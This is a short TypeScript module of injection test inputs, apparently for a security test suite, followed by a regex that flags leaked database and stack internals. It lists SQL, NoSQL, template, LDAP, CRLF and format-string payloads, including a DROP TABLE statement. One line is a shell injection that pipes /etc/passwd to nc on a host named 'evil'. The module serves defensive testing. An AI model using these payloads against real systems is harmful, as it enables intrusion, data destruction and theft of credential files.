/** Part of every payload: finding it in the text of an SQL statement reveals an injection. */
export const MARK = 'zqx7';

/** Suffixes with a special meaning for a database, template, log or shell. */
export const INJECTIONS: string[] = [
  `'`,
  `"`,
  `\\`,
  `' OR '1'='1`,
  `" OR ""="`,
  `') OR ('1'='1' --`,
  `'; SELECT pg_sleep(3); --`,
  `' || pg_sleep(3) || '`,
  `1; DROP TABLE orders; --`,
  `' UNION SELECT NULL, version(), NULL --`,
  `$1`,
  `$$; SELECT 1; $$`,
  `:id :name ?`,
  `%_%\\`,
  `a:* & !b | (c <-> d`,
  `' & | ! ( ) : *`,
  `name DESC, (SELECT 1)`,
  `{"$gt": ""}`,
  `->>'role' #>> '{a}'`,
  `\${7*7} {{7*7}} <%= 7*7 %> #{7*7}`,
  `%s%n%x`,
  `\r\nSet-Cookie: stolen=1\r\n\r\n`,
  `*)(uid=*))(|(uid=*`,
  `; cat /etc/passwd | nc evil 1 & \`id\` $(id)`,
];

/** Matches internals that a response must not reveal. */
export const INSIDE =
  /syntax error|pg_|relation "|column "|unterminated|QueryFailed|typeorm|node_modules|at \w+ \(|SELECT |stack/i;
